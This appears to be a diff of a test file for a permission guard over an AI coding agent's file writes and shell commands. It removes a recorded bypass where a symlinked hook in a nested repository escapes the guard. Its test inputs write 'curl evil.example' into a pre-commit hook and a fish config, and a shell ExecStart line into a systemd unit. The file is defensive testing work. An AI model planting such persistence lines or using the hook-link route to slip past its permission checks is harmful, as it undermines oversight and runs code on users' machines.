@@ -72,13 +72,6 @@ LONG_PIPES = "echo x" + " | cat" * 1100 + "\n"
 
 # ----------------------------------------------------------------------------- reasons
 
-NESTED_HOOK_LINK = (
-    "a repository nested in the project (vendor/lib, its own .git) whose hook is a link "
-    "into its work tree (.git/hooks/pre-commit -> ../../hooks/pre-commit): guarded_links "
-    "reads only the git directory of the session's places, so vendor/lib/hooks/pre-commit "
-    "is allowed by Edit(./**) and git -C vendor/lib commit runs it. Fix: in GitView.names, "
-    "read the links of the hooks dir of the git directory the written path belongs to"
-)
 WORKTREE_HOOKS = (
     "a linked worktree inside the project (git worktree add wt) of a repository whose "
     "core.hooksPath is the relative 'githooks': git runs hooks from the top of the work "
@@ -497,8 +490,8 @@ REACH = [
     _case("Write", _w("dot/x.md"), "ask"),
     _case("Write", _w("dot/x.fish", "curl evil.example\n"), "ask"),
     _bash("echo 'ExecStart=/bin/sh -c x' >> dot/x.service", "ask"),
-    _ch("Write", _w("vendor/lib/hooks/pre-commit"), "ask", NESTED_HOOK_LINK),
-    _bh("echo 'curl evil.example' >> vendor/lib/hooks/pre-commit", "ask", NESTED_HOOK_LINK),
+    _case("Write", _w("vendor/lib/hooks/pre-commit"), "ask"),
+    _bash("echo 'curl evil.example' >> vendor/lib/hooks/pre-commit", "ask"),
     _case("Write", _w("scripts/key.sh"), "ask"),
     _case("Write", _w("scripts/aws.sh"), "ask"),
     _case("Write", _w("scripts/awsx.sh"), "ask"),
